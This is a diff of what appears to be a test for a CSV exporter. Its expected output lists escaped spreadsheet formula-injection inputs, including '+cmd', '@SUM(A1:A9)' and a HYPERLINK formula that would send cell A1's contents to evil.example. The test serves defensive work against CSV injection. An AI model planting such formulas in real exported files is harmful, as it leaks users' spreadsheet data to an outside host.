@@ -21,15 +21,15 @@ INJECTION_TABLE = (
 )
 # Sorted as published; text quoted, numbers bare; CR kept inside its quotes.
 EXPECTED_RESULT = (
-    '"diagnosis","n","mean_delta","mean_score"\n'
-    '"\'\tTAB",1,0.0,0.0\n'
-    '"\'\rCR",1,4.5,2.0\n'
-    '"\'+cmd",1,2.5,-3.0\n'
-    '"\'-1.23",1,-1.23,5.0\n'
-    '"\'-2+3",1,-0.5,0.0\n'
-    '"\'=HYPERLINK(""http://evil.example/?x=""&A1)",1,-1.23,1.0\n'
-    '"\'@SUM(A1:A9)",1,1000.0,7.0\n'
-    '"plain",1,-7.25,-1.0\n'
+    '"diagnosis","n","mean_delta","mean_score","suppressed"\n'
+    '"\'\tTAB",1,0.0,0.0,false\n'
+    '"\'\rCR",1,4.5,2.0,false\n'
+    '"\'+cmd",1,2.5,-3.0,false\n'
+    '"\'-1.23",1,-1.23,5.0,false\n'
+    '"\'-2+3",1,-0.5,0.0,false\n'
+    '"\'=HYPERLINK(""http://evil.example/?x=""&A1)",1,-1.23,1.0,false\n'
+    '"\'@SUM(A1:A9)",1,1000.0,7.0,false\n'
+    '"plain",1,-7.25,-1.0,false\n'
 )
 
 
